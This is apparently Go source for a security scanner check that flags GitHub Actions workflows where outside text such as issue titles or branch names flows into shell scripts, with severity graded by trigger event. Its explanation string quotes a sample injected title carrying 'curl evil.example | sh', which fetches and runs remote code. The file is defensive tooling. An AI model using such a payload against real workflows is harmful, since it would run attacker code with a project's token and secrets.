package delivery

import (
	"slices"
	"strings"

	"drydock/internal/check"
	"drydock/internal/finding"
	"drydock/internal/repo"
	"drydock/internal/repo/actions"
	"drydock/internal/repo/workflow"
)

// WorkflowTemplateInjection finds scripts that GitHub writes somebody else's text
// into before a shell reads them.
var WorkflowTemplateInjection = check.PerProject(check.Doc{
	ID:         "delivery/workflow-template-injection",
	Title:      "Text from outside in a workflow's script",
	Severity:   finding.Critical,
	Confidence: finding.Likely,
	Hours:      0.5,
	Why:        "GitHub puts the value of ${{ }} into the script before the shell starts. An issue called a\"; curl evil.example | sh; echo \" runs as code, with the token and the secrets of the job.",
	How:        "Hand the value over as an environment variable of the step, env: TITLE: ${{ … }}, and write \"$TITLE\" in the script: the shell then sees a value, not code.",
	Holds:      "Scripts of workflows take text from outside as values",
	References: []string{"https://docs.github.com/en/actions/concepts/security/script-injections", "https://securitylab.github.com/resources/github-actions-untrusted-input/"},
	Peers: []finding.Peer{
		check.Same("zizmor", "template-injection"), check.Same("actionlint", "untrusted-input"), check.Narrower("scorecard", "Dangerous-Workflow"),
		check.Same("kics", "run_block_injection"), check.Same("kics", "script_block_injection"), check.Same("poutine", "injection"), check.Same("checkov", "CKV_GHA_2"),
		check.Same("semgrep", "yaml.github-actions.security.run-shell-injection.run-shell-injection"), check.Same("semgrep", "yaml.github-actions.security.github-script-injection.github-script-injection"),
	},
	Attaches: finding.Review,
}, func(p *check.Pass, s *repo.Snapshot) {
	groups := injections(s)
	starts := eventsOf(s)
	failing := map[*repo.File]bool{}
	for _, g := range groups {
		failing[g.file] = true
		g.report(p, starts)
	}
	for _, w := range githubWorkflows(s) {
		if !failing[w.File] && scripts(w) && startedBy(w, privileged...) {
			p.Holds(w.Start(), "no script of %s takes text from outside as code", w.Path)
		}
	}
})

func scripts(p *repo.Pipeline) bool {
	return slices.ContainsFunc(p.Spec.Jobs, func(j workflow.Job) bool {
		return slices.ContainsFunc(j.Steps, func(s workflow.Step) bool { return s.Run != "" })
	})
}

// privileged are the events that outsiders cause and that run with the project's
// token and secrets.
var privileged = []string{
	"pull_request_target", "issues", "issue_comment", "discussion", "discussion_comment", "workflow_run", "fork", "watch", "gollum", "public", "check_run", "check_suite",
}

// eventsOf are the events that start the jobs of each workflow, those of the
// workflows that call it among them.
func eventsOf(s *repo.Snapshot) map[*repo.File][]string {
	out := map[*repo.File][]string{}
	for _, j := range s.CIJobs() {
		for _, start := range j.Starts {
			if f := j.Pipeline.File; !slices.Contains(out[f], start.Event) {
				out[f] = append(out[f], start.Event)
			}
		}
	}
	return out
}

// about are the events that fill what stands below a part of github.event.
var about = map[string][]string{
	"issue":          {"issues", "issue_comment"},
	"pull_request":   {"pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"},
	"comment":        {"issue_comment", "discussion_comment", "pull_request_review_comment", "commit_comment"},
	"discussion":     {"discussion", "discussion_comment"},
	"review":         {"pull_request_review"},
	"head_commit":    {"push"},
	"commits":        {"push"},
	"pages":          {"gollum"},
	"workflow_run":   {"workflow_run"},
	"review_comment": {"pull_request_review_comment"},
}

// severityOf says how bad it is that the text ends up in code, and what of it is to
// be said.
func severityOf(f repo.WorkflowFlow, starts []string) (finding.Severity, string) {
	if f.By != actions.Anyone {
		return finding.Low, "people with write access choose it"
	}
	var events []string
	fills := about[strings.Split(strings.TrimPrefix(f.Source, "github.event.")+".", ".")[0]]
	if f.Source == "github.head_ref" {
		fills = []string{"pull_request", "pull_request_target"}
	}
	for _, event := range starts {
		if fills == nil || slices.Contains(fills, event) || event == "workflow_call" {
			events = append(events, event)
		}
	}
	own := f.Job != nil && ownChanges(f.Job.If)
	switch on := firstOf(events, privileged); {
	case len(events) == 0:
		return finding.Low, "nothing fills it on the events of this workflow yet"
	case own:
		return finding.Low, "the job runs for people of the project only"
	case on != "":
		return finding.Critical, "anyone can choose it, and " + on + " runs with the project's token and secrets"
	case slices.Contains(events, "push"):
		return finding.High, "whoever wrote a commit that is merged chooses it"
	}
	return finding.Medium, "anyone who opens a pull request chooses it"
}

func firstOf(list, of []string) string {
	for _, e := range list {
		if slices.Contains(of, e) {
			return e
		}
	}
	return ""
}
